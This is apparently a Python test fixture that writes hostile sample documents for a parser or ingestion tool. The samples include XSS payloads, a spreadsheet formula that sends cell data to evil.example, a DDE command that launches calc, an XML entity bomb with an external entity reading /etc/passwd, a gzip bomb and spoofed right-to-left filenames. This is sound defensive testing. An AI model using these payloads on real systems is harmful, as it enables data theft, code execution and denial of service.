"""Documents as attackers write them."""

import gzip
import json

SCRIPT = "<script>document.title='owned';alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ada")'
ENTITY_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + '<!ENTITY file SYSTEM "file:///etc/passwd">]><html><body><p>Ada Lind sang &i; and &file; in Paris.</p></body></html>'
)
ORDINARY = "Ada Lind sang “Paper Boats” on January 24, 2024. The song was released in December 2023."
MEGABYTE = 1_000_000


def write_documents(folder):
    """Write them below the folder, one of each kind, and return their names."""
    fields = ("headline", "author", "outlet", "url", "language", "published")
    records = {
        "scripts.json": dict.fromkeys(fields, SCRIPT)
        | {"text": f"{SCRIPT} Ada {SCRIPT} Lind sang. {ORDINARY}"},
        "attributes.json": dict.fromkeys(fields, "\" onmouseover=alert(3) x='") | {"text": ORDINARY},
        "address.json": {"headline": "Address", "url": "javascript:alert(4)", "text": f"Here. {ORDINARY}"},
        "formula.json": {
            "headline": FORMULA,
            "author": "@SUM(1+1)",
            "outlet": "+1+cmd|' /C calc'!A0",
            "text": f"-2+3 {ORDINARY}",
        },
        "long-names.json": dict.fromkeys(fields, "Ada " + "a" * MEGABYTE) | {"text": f"Long. {ORDINARY}"},
        "surrogates.json": {
            "headline": "Lone \ud800 and \udfff",
            "author": "\udc80 Ben",
            "text": f"\ud800 {ORDINARY} \udfff",
        },
        "controls.json": {
            "headline": "a\x00b\x08c\x1b[2Jd\x7fe\x85f\ufffeg\uffffh",
            "text": f"\x0b\x0c]]> <![CDATA[ &#0; &#x1F; {ORDINARY}\x01\x02",
        },
        "directions.json": {
            "headline": "\u202egnp.exe\u202c \u2066Ada\u2067",
            "text": f"\u202e{ORDINARY}\u200f\u2069",
        },
        "typed.json": {
            "headline": {"@value": ["x"]},
            "author": [[[]], {"name": 7}],
            "published": 10**400,
            "text": [ORDINARY, 3.5],
        },
    }
    texts = {
        "one-line.txt": f"{ORDINARY} " * 300,
        "one-word.txt": "A" + "a" * 300_000,
        "quotes.txt": "“" * 50_000 + ORDINARY + '"' * 50_000,
        "brackets.txt": "(" * 50_000 + ORDINARY + "[" * 50_000,
        "capitals.txt": "Ada " * 20_000,
        "numbers.txt": "1,000," * 8_000 + " " + "03/04/" * 8_000 + ORDINARY,
        "marks.md": "*" * 20_000 + "_" * 20_000 + "`" * 20_000 + "[" * 20_000 + "\n\n" + ORDINARY,
        "levels.md": "> " * 5_000 + ORDINARY + "\n" + "".join(f"{'  ' * n}- {n}\n" for n in range(300)),
        "entities.html": ENTITY_BOMB,
        "scripts.html": f"<html><head><title>{SCRIPT}</title><meta name=author content='{SCRIPT}'>"
        f"<meta property='og:site_name' content='</title>{SCRIPT}'></head><body><h1>Boats {SCRIPT}</h1>"
        f"<p onclick=alert(5)>{ORDINARY}</p><a href='javascript:alert(6)'>here</a><svg onload=alert(7)>"
        f"<iframe srcdoc='{SCRIPT}'></iframe><p>{ORDINARY} {SCRIPT}</p></body></html>",
        "depth.html": "<div>" * 20_000 + f"<p>{ORDINARY}</p>",
        "crowd.html": f"<p {' '.join(f'a{n}=1' for n in range(20_000))}>{ORDINARY}</p>",
        "depth.json": "[" * 100_000,
        "lines.jsonl": '{"text": "' + "Ada Lind sang. " * 1_000 + '"}\n{"text": \n\x00\n{}\n',
    }
    for name, record in records.items():
        (folder / name).write_text(json.dumps(record))
    for name, text in texts.items():
        (folder / name).write_text(text)
    (folder / "bomb.txt.gz").write_bytes(gzip.compress(b"Ada Lind sang. " * 2_000_000))
    (folder / "cut.txt.gz").write_bytes(gzip.compress(ORDINARY.encode() * 100)[:-20])
    (folder / "packed.txt").write_bytes(b"PK\x03\x04" + b"\x00" * 1_000)
    (folder / "bytes.txt").write_bytes(b"\xff\xfe\x00\xd8" * 200 + b"\x00\x00Ada" + b"\xed\xa0\x80")
    return sorted(path.name for path in folder.iterdir())
